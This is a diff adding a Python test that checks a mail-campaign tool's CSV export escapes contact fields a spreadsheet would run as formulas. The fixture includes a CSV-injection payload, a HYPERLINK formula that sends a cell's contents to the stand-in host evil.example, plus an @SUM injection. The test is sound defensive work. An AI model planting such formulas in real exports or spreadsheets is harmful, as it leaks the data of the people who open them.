@@ -347,3 +347,29 @@ def test_a_replans_suppression_rate_and_gates_are_the_whole_runs_as_the_ledger_c
     gated = _run(demo, *week, "--replan", "--max-suppression-rate", between, "--min-sends", str(t["send"] + 40))
     assert gated.exit_code == 0, gated.output
     assert f"of the run's {listed['decisions']:,} decisions, the 40 kept included" in gated.output
+
+
+def test_contact_cells_a_spreadsheet_would_run_as_a_formula_are_exported_as_text(engine, tmp_path):
+    """A customer's own name and address go into an export a colleague opens in Excel: never as a formula."""
+    from relmail.planning.export import export_run
+    from relmail.store.models import Run
+
+    now = datetime(2026, 11, 23, 12, tzinfo=UTC)
+    people = [("C1", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "+31 6 1234", "-x@example.com"),
+              ("C2", "@SUM(1+1)", "\tTab", "anna@example.com"), ("C3", "Anna-Lena", "O'Neil = me", "b@example.com")]
+    with engine.begin() as conn:
+        conn.execute(Run.__table__.insert(), [{"id": "weekly:2026-W48", "campaign": "weekly", "window": "2026-W48", "as_of": now,
+                                               "seed": 0, "status": "planned", "config_hash": "", "created_at": now, "updated_at": now}])
+        conn.execute(Customer.__table__.insert(), [{"id": cid, "email": email, "first_name": first, "last_name": last,
+                                                    "created_at": now, "attributes": {}} for cid, first, last, email in people])
+        conn.execute(Decision.__table__.insert(), [{"run_id": "weekly:2026-W48", "customer_id": cid, "message_id": "newsletter",
+                                                    "action": "send", "score": 0.5, "expected_value": 1.0, "reasons": "",
+                                                    "features": {}, "created_at": now}
+                                                   for cid, *_ in people])
+    export_run(engine, "weekly:2026-W48", tmp_path / "out.csv", actions=("send",), with_contact=True)
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
+        rows = {r["customer_id"]: r for r in csv.DictReader(fh)}
+    assert [rows["C1"][k] for k in ("first_name", "last_name", "email")] == [
+        "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "'+31 6 1234", "'-x@example.com"]
+    assert [rows["C2"][k] for k in ("first_name", "last_name", "email")] == ["'@SUM(1+1)", "'\tTab", "anna@example.com"]
+    assert [rows["C3"][k] for k in ("first_name", "last_name", "email")] == ["Anna-Lena", "O'Neil = me", "b@example.com"]
